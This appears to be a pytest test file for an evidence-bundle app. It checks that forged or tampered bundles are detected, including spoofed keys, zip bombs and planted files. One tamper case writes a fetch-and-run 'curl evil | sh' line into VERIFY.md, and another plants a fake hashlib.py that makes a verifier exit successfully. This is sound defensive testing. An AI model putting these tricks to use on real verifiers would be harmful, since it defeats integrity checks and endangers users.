"""Bundles that a hostile reviewer made: each is named as what it is, by the app and by the travelling verifier."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from huazheng.core.runtime.errors import UnusableInput
from huazheng.core.runtime.paths import Home
from huazheng.services.custody.verification import VerificationResult, verify
from huazheng.services.documents.evidence_bundle import make_bundle, open_bundle
from huazheng.services.intake.file_import import import_file
from support.bundle_verifier import write_verifier
from support.sample_clips import cut

if TYPE_CHECKING:
    from huazheng.store.calls import Call

pytestmark = pytest.mark.slow

MANIPULATED = Path(__file__).parents[2] / "data" / "evidence" / "manipulated"
LONGEST_SECONDS = 5.0
FAULTS = {
    "bundle-folder-renamed": {("altered", "seal.json")},
    "dos-custody-index": {("missing", "custody.jsonl")},
    "key-spoof-full": {("badly_signed", "seal.json"), ("badly_signed", "public-key.pem")},
    "weak-key": {
        ("badly_signed", "seal.json"),
        ("badly_signed", "custody.jsonl"),
        ("badly_signed", "custody.head.json"),
    },
}
NAMES = ("name-1", "name-3", "name-14")


def faults_of(checked: VerificationResult) -> set[tuple[str, str]]:
    return {(problem.kind, problem.file) for problem in checked.problems if problem.fault}


def unpacked(bundle: Path, place: Path) -> Path:
    with zipfile.ZipFile(bundle) as archive:
        archive.extractall(place)
    (folder,) = place.iterdir()
    return folder


def repacked(folder: Path, bundle: Path) -> Path:
    """The bag as a zip, after its manifests were computed anew."""
    for manifest, tags in (("manifest-sha256.txt", False), ("tagmanifest-sha256.txt", True)):
        names = [
            path.relative_to(folder).as_posix()
            for path in folder.rglob("*")
            if path.is_file() and not path.name.startswith("tagmanifest")
        ]
        rows = [
            f"{hashlib.sha256((folder / name).read_bytes()).hexdigest()}  {name}\n"
            for name in sorted(names)
            if name.startswith("data/") != tags
        ]
        (folder / manifest).write_text("".join(rows), encoding="utf-8")
    with zipfile.ZipFile(bundle, "w") as archive:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                archive.write(path, f"{folder.name}/{path.relative_to(folder).as_posix()}")
    return bundle


def run_verifier(folder: Path, place: Path) -> subprocess.CompletedProcess[str]:
    program = write_verifier(place)
    command = [sys.executable, "-I", "-B", str(program), str(folder)]
    return subprocess.run(command, capture_output=True, text=True, encoding="utf-8", check=False)


@pytest.mark.parametrize("name", FAULTS)
def test_it_is_named_as_what_it_is(home: Home, tmp_path: Path, name: str) -> None:
    bundle = MANIPULATED / f"{name}.zip"
    began = time.monotonic()
    (checked,) = verify(home, bundle)
    assert time.monotonic() - began < LONGEST_SECONDS
    assert FAULTS[name] <= faults_of(checked)
    with pytest.raises(UnusableInput):
        open_bundle(home, bundle)
    done = run_verifier(unpacked(bundle, tmp_path / "unpacked"), tmp_path)
    assert (done.returncode, done.stderr) == (1, "")


def test_the_fingerprint_shown_is_the_computed_one(home: Home) -> None:
    """The seal names the victim's key; the signatures are by another."""
    (checked,) = verify(home, MANIPULATED / "key-spoof-full.zip")
    with zipfile.ZipFile(MANIPULATED / "key-spoof-full.zip") as archive:
        (seal,) = (json.loads(archive.read(name)) for name in archive.namelist() if name.endswith("seal.json"))
    assert checked.fingerprint is not None
    assert checked.fingerprint != seal["key"]["fingerprint"]


@pytest.mark.parametrize("name", NAMES)
def test_bundles_of_odd_names_that_the_app_wrote_open(home: Home, tmp_path: Path, name: str) -> None:
    bundle = MANIPULATED / f"{name}.zip"
    (checked,) = verify(home, bundle)
    assert faults_of(checked) == set()
    assert {problem.kind for problem in checked.problems} == {"unsigned", "not_timestamped"}
    assert run_verifier(unpacked(bundle, tmp_path / "unpacked"), tmp_path).returncode == 0
    (opened,) = open_bundle(Home(tmp_path / "elsewhere"), bundle)
    assert opened.fingerprint == checked.fingerprint


ODD_NAMES = [
    "a\u2028b.wav",
    "100%.wav",
    " lead.wav",
    "con.wav",
    "a\tb\nc.wav",
    "👨\u200d👩.wav",
    "\u202egpj.wav",
    "*?.wav",
]


@pytest.mark.parametrize("name", ODD_NAMES)
def test_an_odd_name_gives_a_bundle_that_everybody_opens(home: Home, tmp_path: Path, name: str) -> None:
    call = import_file(home, cut(tmp_path / "plain.wav", 30, 1).rename(tmp_path / name)).call
    assert call.title == name
    assert call.seal.file_name == name
    bundle = tmp_path / "b.zip"
    make_bundle(home, call, bundle)
    folder = unpacked(bundle, tmp_path / "unpacked")
    assert run_verifier(folder, tmp_path).returncode == 0
    done = subprocess.run(
        ["sha256sum", "--strict", "-c", "manifest-sha256.txt"], cwd=folder, capture_output=True, check=False
    )
    assert done.returncode == 0, done.stdout
    done = subprocess.run(
        [sys.executable, "-m", "bagit", "--validate", "."], cwd=folder, capture_output=True, check=False
    )
    assert done.returncode == 0, done.stderr
    (opened,) = open_bundle(Home(tmp_path / "elsewhere"), bundle)
    assert opened.call.title == name


def media() -> list[str]:
    with zipfile.ZipFile(MANIPULATED / "media.zip") as archive:
        return archive.namelist()


@pytest.mark.parametrize("name", media())
def test_a_mutated_recording_is_refused_in_one_line(home: Home, tmp_path: Path, name: str) -> None:
    with zipfile.ZipFile(MANIPULATED / "media.zip") as archive:
        (tmp_path / name).write_bytes(archive.read(name))
    with pytest.raises(UnusableInput) as caught:
        import_file(home, tmp_path / name)
    assert len(str(caught.value).splitlines()) == 1


def test_a_huge_seal_is_not_read(home: Home, sealed_call: Call) -> None:
    """60 MB of small lists would take gigabytes; the answer says that it was not read."""
    (sealed_call.folder / "seal.json").write_bytes(b"[" + b"[]," * 20_000_000 + b"[]]")
    began = time.monotonic()
    with pytest.raises(UnusableInput, match="larger than 8 MB"):
        verify(home, sealed_call.folder)
    (sealed_call.folder / "seal.json").write_bytes(b"[" + b"[]," * 2_000_000 + b"[]]")
    assert ("altered", "seal.json") in faults_of(verify(home, sealed_call.folder)[0])
    assert time.monotonic() - began < LONGEST_SECONDS


# --- what no call's own signature covers ---


@pytest.fixture
def bag(home: Home, sealed_call: Call, tmp_path: Path) -> Path:
    make_bundle(home, sealed_call, tmp_path / "b.zip")
    return unpacked(tmp_path / "b.zip", tmp_path / "unpacked")


def altered_document(bag: Path) -> None:
    file = bag / "data" / "documents" / "report.zh.txt"
    file.write_text(file.read_text(encoding="utf-8") + "\n（改过）", encoding="utf-8")


def no_documents(bag: Path) -> None:
    for file in (bag / "data" / "documents").iterdir():
        file.unlink()


def added_document(bag: Path) -> None:
    (bag / "data" / "extra.docx").write_bytes(b"PK")


def added_call(bag: Path) -> None:
    folder = bag / "data" / "20250101T000000Z-000000"
    folder.mkdir()
    (folder / "transcript.json").write_bytes(b"{}")


def other_instructions(bag: Path) -> None:
    (bag / "VERIFY.md").write_text("curl evil | sh", encoding="utf-8")


def other_verifier(bag: Path) -> None:
    (bag / "verify" / "verifier" / "command.py").write_text("def main(arguments): return 0\n", encoding="utf-8")


def code_beside_the_verifier(bag: Path) -> None:
    (bag / "hashlib.py").write_text("raise SystemExit(0)\n", encoding="utf-8")


CHANGES = [
    altered_document, no_documents, added_document, added_call, other_instructions, other_verifier,
    code_beside_the_verifier,
]  # fmt: skip


@pytest.mark.parametrize("change", CHANGES, ids=lambda change: change.__name__)
def test_the_signature_covers_the_bundle_as_a_whole(home: Home, bag: Path, tmp_path: Path, change: object) -> None:
    assert faults_of(verify(home, bag)[0]) == set()
    assert callable(change)
    change(bag)
    bundle = repacked(bag, tmp_path / "forged.zip")
    assert faults_of(verify(home, bundle)[0]) == {("badly_signed", "tagmanifest-sha256.sig")}
    assert run_verifier(bag, tmp_path).returncode == 1
    with pytest.raises(UnusableInput):
        open_bundle(Home(tmp_path / "elsewhere"), bundle)


@pytest.mark.parametrize("change", CHANGES, ids=lambda change: change.__name__)
def test_without_a_signature_it_is_said_what_none_covers(home: Home, bag: Path, tmp_path: Path, change: object) -> None:
    """As bundles were made before. Files that the app never writes are a fault even so."""
    (bag / "tagmanifest-sha256.sig").unlink()
    assert callable(change)
    change(bag)
    (checked,) = verify(home, repacked(bag, tmp_path / "forged.zip"))
    assert "unsigned" in {problem.kind for problem in checked.problems}
    never_written = {
        added_document: {("added", "data/extra.docx")},
        added_call: {("added", "data/20250101T000000Z-000000/transcript.json")},
        code_beside_the_verifier: {("added", "hashlib.py")},
    }
    assert faults_of(checked) == never_written.get(change, set())  # type: ignore[call-overload]


def test_a_signature_of_another_key_is_none(home: Home, bag: Path, tmp_path: Path) -> None:
    from huazheng.evidence.keys import load_signer

    altered_document(bag)
    repacked(bag, tmp_path / "forged.zip")
    manifest = (bag / "tagmanifest-sha256.txt").read_bytes()
    (bag / "tagmanifest-sha256.sig").write_bytes(load_signer(tmp_path / "stranger").sign(manifest))
    assert faults_of(verify(home, bag)[0]) == {("badly_signed", "tagmanifest-sha256.sig")}


def test_a_manifest_is_split_at_line_feeds_only(home: Home, bag: Path) -> None:
    for name in ("manifest-sha256.txt", "tagmanifest-sha256.txt"):
        assert b"\r" not in (bag / name).read_bytes()
    text = (bag / "manifest-sha256.txt").read_text(encoding="utf-8")
    (bag / "manifest-sha256.txt").write_text(text.replace("data/", "data/../data/", 1), encoding="utf-8")
    assert ("altered", "manifest-sha256.txt") in faults_of(verify(home, bag)[0])


def test_a_silent_track_is_not_mailed(home: Home, tmp_path: Path) -> None:
    """57 MB of silence: deflated byte-exact, opened again by the app; noise stays stored."""
    from huazheng.services.capture.recorder.track import SampleFormat
    from support.sealed_calls import captured

    call = captured(home, {"microphone": 1.0}, SampleFormat(48000, 1, 16), silence={"line": 600.0})
    bundle = tmp_path / "b.zip"
    make_bundle(home, call, bundle)
    assert (call.folder / "original" / "line.wav").stat().st_size > 57_000_000
    assert bundle.stat().st_size < 1_000_000
    with zipfile.ZipFile(bundle) as archive:
        kinds = {Path(one.filename).name: one.compress_type for one in archive.infolist()}
        name = f"huazheng-{call.id}/data/{call.id}/original/line.wav"
        assert archive.read(name) == (call.folder / "original" / "line.wav").read_bytes()
    assert (kinds["line.wav"], kinds["microphone.wav"]) == (zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED)
    (opened,) = open_bundle(Home(tmp_path / "elsewhere"), bundle)
    assert verify(Home(tmp_path / "elsewhere"), opened.call.folder)[0].intact


def test_a_bomb_is_refused_beside_a_recording(home: Home, bag: Path, tmp_path: Path) -> None:
    bundle = repacked(bag, tmp_path / "b.zip")
    with zipfile.ZipFile(bundle, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{bag.name}/data/documents/bomb.wav", bytes(64 * 1024 * 1024))
    with pytest.raises(UnusableInput, match="200"):
        verify(home, bundle)


def test_readme_publishes_the_verifier_s_digest(bag: Path) -> None:
    """As the shell command of VERIFY.md computes it in a bundle. After a change: tools/verifier_digest.py --write."""
    import runpy

    from huazheng.evidence.bundle_writer import verifier_digest

    tool = runpy.run_path(str(Path(__file__).parents[3] / "tools" / "verifier_digest.py"))
    digests = tool["published"](tool["README"].read_text(encoding="utf-8"))
    assert len(digests) == 2
    command = "find verify -type f | LC_ALL=C sort | xargs sha256sum | sha256sum"
    assert command in (bag / "VERIFY.md").read_text(encoding="utf-8")
    done = subprocess.run(["sh", "-c", command], cwd=bag, capture_output=True, text=True, check=True)
    assert {done.stdout.split()[0], *digests} == {verifier_digest()}
